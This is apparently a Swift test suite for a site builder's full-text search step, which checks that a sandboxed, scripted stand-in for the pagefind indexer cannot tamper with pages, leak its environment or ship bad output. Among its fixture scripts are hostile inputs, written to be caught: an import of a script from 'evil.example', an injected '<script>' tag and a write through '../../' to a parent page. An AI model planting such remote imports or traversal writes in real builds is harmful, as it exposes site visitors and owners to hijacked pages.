import Platform
import TestFolder
import Testing

@Suite("The index of the search") struct SearchBuildTests {
  private let folder: TestFolder

  init() throws {
    folder = try TestFolder()
    try SampleSection.write(to: folder)
  }

  private static let usual = FakePagefind.usual
  private static let nowhere = #"printf 'pagefind_dcd{"url":"/nowhere.html"}' | gzip -n"#
  private static let meddling =
    "программа pagefind меняла страницы, которые должна была только читать"
  private static let strangeness = "программа pagefind оставила лишние или испорченные файлы"

  /// Builds with a program that does what a script says.
  private func build(doing script: String? = nil) throws -> Run {
    let program = try script.map { try FakePagefind.write(to: folder, doing: $0) }
    return Run(
      section: folder, ["--pagefind", try program ?? FakePagefind.write(to: folder), "--quiet"])
  }

  private var bundle: [String] {
    get throws {
      try folder.tree(at: "public").keys.filter { $0.hasPrefix("public/poisk/pagefind/") }
        .map { String($0.dropFirst("public/poisk/pagefind/".count)) }.sorted()
    }
  }

  @Test func `is made of the finished pages and lies beside the page of the search`() throws {
    let run = try build()
    #expect(run.errors == "")
    #expect(run.exitCode == 0)
    let names = try bundle
    let tree = try folder.tree(at: "public")
    let pages = tree.keys.count { $0.hasSuffix(".html") }
    #expect(names.count { $0.hasPrefix("fragment/") && $0.hasSuffix(".pf_fragment") } == pages)
    let others = names.filter { !$0.hasPrefix("fragment/") && !$0.hasSuffix(".gz") }
    #expect(
      others.filter { !$0.hasSuffix(".br") } == [
        "index/ru_0.pf_index", "pagefind-entry.json", "pagefind.js",
        "pagefind.ru_0.pf_meta", "wasm.ru.pagefind",
      ])
    let page = try #require(tree["public/poisk/index.html"])
    #expect(page.contains("data-bundle=\"../poisk/pagefind/pagefind.js\" data-root=\"../\""))
    let manifest = try #require(tree["public/.nastavnik-manifest"])
    for name in names { #expect(manifest.contains("poisk/pagefind/\(name)"), "\(name)") }
    #expect(try folder.open().entries().map(\.name) == ["bin", "cache", "content", "public"])
  }

  @Test func `is told of in the report where it repeats a person's field`() throws {
    let program = try FakePagefind.write(to: folder)
    let report = "\(folder.path)/report.json"
    let run = Run(section: folder, ["--pagefind", program, "--quiet", "--report", report])
    #expect(run.exitCode == 0)
    let text = try #require(try folder.tree()["report.json"])
    #expect(text.contains("poisk/pagefind/fragment/"))
  }

  @Test func `is not made where the program is missing, which is a note`() throws {
    let run = Run(section: folder, ["--quiet"], searchFolders: ["\(folder.path)/bin"])
    #expect(
      run.errors == """
        замечание[tool.missing]: Поиск по тексту не построен: нет программы pagefind
          = почему: На странице поиска найдутся только названия страниц.
          = что делать: Установите её: python3 -m pip install pagefind_bin — и укажите файл \
        в --pagefind

        Ошибок нет, замечаний: 1

        """)
    #expect(run.exitCode == 0)
    #expect(try bundle == [])
    let page = try #require(try folder.tree()["public/poisk/index.html"])
    #expect(!page.contains("data-bundle"))
  }

  @Test(arguments: [
    ("exit 3", "программа pagefind закончила с ошибкой"),
    ("echo x >\"$4/pagefind.js\"", "программа pagefind оставила не всё"),
    ("head -c 2000000 /dev/zero", "программа pagefind сказала слишком много"),
    ("\(usual)\necho tampered >>\"$2/index.html\"", meddling),
    ("\(usual)\necho stray >\"$2/stray.html\"", meddling),
    ("\(usual)\nmkdir \"$2/pagefind\"", meddling),
    ("\(usual)\nrm \"$2/poisk/index.html\"", meddling),
    ("\(usual)\necho x >\"$4/fragment/bad name <b>.html\"", strangeness),
    ("\(usual)\necho '<script>' >\"$4/fragment/index.html\"", strangeness),
    ("\(usual)\necho x >\"$4/fragment/ru_1.pf_fragment\"", strangeness),
    ("\(usual)\n\(nowhere) >\"$4/fragment/ru_1.pf_fragment\"", strangeness),
    (
      "\(usual)\necho 'import(\"https://evil.example/x.js\")' >\"$4/pagefind.js\"",
      "скрипт программы pagefind обращается к другому сайту"
    ),
  ])
  func `that fails leaves the section whole and warns`(script: String, reason: String) throws {
    _ = Run(section: folder, ["--quiet"])
    let whole = try folder.tree(at: "public")
    let run = try build(doing: script)
    #expect(
      run.errors == """
        предупреждение[search.failed]: Поиск по тексту не построен: \(reason)
          = почему: На странице поиска найдутся только названия страниц.
          = что делать: Запустите сборку ещё раз; если не поможет, установите pagefind заново

        Ошибок нет, предупреждений: 1

        """)
    #expect(run.exitCode == 0)
    let tree = try folder.tree(at: "public")
    // The page of the search looks for an index, and finds none.
    for path in tree.keys where !path.contains("/poisk/") && !path.hasSuffix("manifest") {
      #expect(tree[path] == whole[path], "\(path)")
    }
    #expect(tree.keys.sorted() == whole.keys.sorted())
  }

  @Test func `that is made by touching the section itself stops the build`() throws {
    _ = Run(section: folder, ["--quiet"])
    let whole = try folder.tree(at: "public")
    let run = try build(
      doing: "\(Self.usual)\necho tampered >>\"$2/../../index.html\"")
    #expect(run.exitCode == 4)
    #expect(run.errors.contains("ошибка[output.failed]: Другая программа меняла файлы раздела"))
    #expect(try folder.tree(at: "public") == whole)
  }

  @Test func `that would join a name which pages keep apart is left out`() throws {
    let run = try build(
      doing: """
        mkdir -p "$4/fragment"
        echo 1 >"$4/pagefind.js"
        printf 'pagefind_dcd{"url":"/index.html","content":"Иванов Пётр"}' | gzip -n \\
          >"$4/fragment/ru_0.pf_fragment"
        """)
    #expect(
      run.errors == """
        предупреждение[search.failed]: Поиск по тексту не построен: в его указателе слова разных \
        ячеек стоят рядом и выглядят как имя, которое публиковать нельзя
          = почему: На странице поиска найдутся только названия страниц. Сами страницы в порядке.

        Ошибок нет, предупреждений: 1

        """)
    #expect(try bundle == [])
  }

  @Test func `the program has no network and sees nothing of this program's environment`() throws {
    let run = try build(
      doing: """
        mkdir -p "$4/fragment"
        env >"$4/pagefind.js"
        pwd >>"$4/pagefind.js"
        printf 'pagefind_dcd{"url":"/index.html"}' | gzip -n >"$4/fragment/ru_0.pf_fragment"
        """)
    #expect(run.exitCode == 0)
    let seen = try #require(try folder.tree()["public/poisk/pagefind/pagefind.js"])
    #expect(!seen.contains("HOME="))
    #expect(seen.hasSuffix("\n/\n"))
  }

  @Test func `a program that is not there is a wrong call`() {
    let run = Run(section: folder, ["--pagefind", "/nonexistent/pagefind"])
    #expect(run.exitCode == 2)
    #expect(run.errors.contains("нет программы «/nonexistent/pagefind»"))
  }
}
